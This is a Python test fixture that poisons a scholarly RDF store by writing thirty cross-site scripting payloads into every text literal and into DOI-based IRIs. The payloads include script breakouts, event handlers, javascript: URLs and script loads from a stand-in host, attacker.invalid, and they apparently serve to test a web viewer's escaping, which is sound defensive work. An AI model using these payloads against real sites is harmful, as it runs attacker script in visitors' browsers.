"""A store in which every text is a script that wants to run: thirty ways, in every field of every paper."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

from pyoxigraph import BlankNode, Literal, NamedNode, Quad, Triple

from hostile import CALL
from spreadgraph.graph.store import LocalStore
from spreadgraph.terms import DOI, GRAPH, ONTOLOGY_GRAPH, PROVENANCE_GRAPH, XSD
from web.served import Opener, rewritten

_IMAGE = "https://attacker.invalid/i"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</title></textarea></noscript><script>{CALL}</script>",
    f"</option></select></datalist><script>{CALL}</script>",
    f"<ScRiPt src=https://attacker.invalid/s></ScRiPt><!--{CALL}",
    f'"><img src="{_IMAGE}" onerror="{CALL}">',
    f"'><img src={_IMAGE} onerror={CALL}>",
    f"<img src=x onerror={CALL} x=",
    f"<svg onload={CALL}></svg>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<math><mtext></p><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f'<iframe srcdoc="<script>parent.hacked=1;{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.hacked=1;{CALL}"></iframe>',
    f'<object data="data:text/html,<script>{CALL}</script>"></object>',
    f'<a href="javascript:{CALL}" autofocus>look</a>',
    f'<form action="javascript:{CALL}"><button autofocus>press</button></form>',
    f'<base href="https://attacker.invalid/"><script src=/s></script>{CALL}',
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    f"<link rel=stylesheet href=https://attacker.invalid/c><style>@import '{_IMAGE}';</style>",
    f"<template><script>{CALL}</script></template><x-a onclick={CALL}>",
    f"javascript:{CALL}",
    f'" autofocus onfocus="{CALL}" x="',
    f"' onmouseover='{CALL}' style='background:url({_IMAGE})' x='",
    f"{{{{ self.__init__.__globals__ }}}}{{% raw %}}${{{CALL}}}`${{{CALL}}}`\u2028{CALL}\u2029--></script>",
)
EVERY = " ".join(PAYLOADS)
# In an IRI, as it may stand in an address or an attribute.
_IN_AN_IRI = "'onmouseover='window.hacked=1'x='javascript:window.hacked=1;"
_TEXTS = {XSD + "string", XSD + "anyURI", "http://www.w3.org/1999/02/22-rdf-syntax-ns#langString"}
Term = NamedNode | BlankNode | Literal | Triple
T = TypeVar("T")


def poisoned(store: LocalStore, folder: Path) -> Opener:
    """Write a copy of ``store`` into ``folder`` with a payload in every text of its papers, and return what opens it.

    Every other text gets all payloads at once, the rest one after the other.
    """
    return rewritten(store, folder, _poison())


def _is_text(quad: Quad) -> bool:
    name = str(getattr(quad.graph_name, "value", ""))
    ours = name.startswith(GRAPH) and not name.startswith((ONTOLOGY_GRAPH, PROVENANCE_GRAPH))
    return ours and isinstance(quad.object, Literal) and quad.object.datatype.value in _TEXTS


def _poison() -> Callable[[Quad], Quad]:
    used: Counter[NamedNode] = Counter()

    def change(quad: Quad) -> Quad:
        value: Term = quad.object
        if _is_text(quad):
            number = used[quad.predicate]
            used[quad.predicate] += 1
            text = PAYLOADS[number // 2 % len(PAYLOADS)] if number % 2 else EVERY
            # A place has parts between slashes, and names the page that it stands on.
            value = Literal(f"x/{text}" if quad.predicate.value.endswith("#locator") else text)
        return Quad(_renamed(quad.subject), quad.predicate, _renamed(value), quad.graph_name)

    return change


def _renamed(term: T) -> T | NamedNode:
    """Put a script into the IRI of a work."""
    return NamedNode(term.value + _IN_AN_IRI) if isinstance(term, NamedNode) and term.value.startswith(DOI) else term
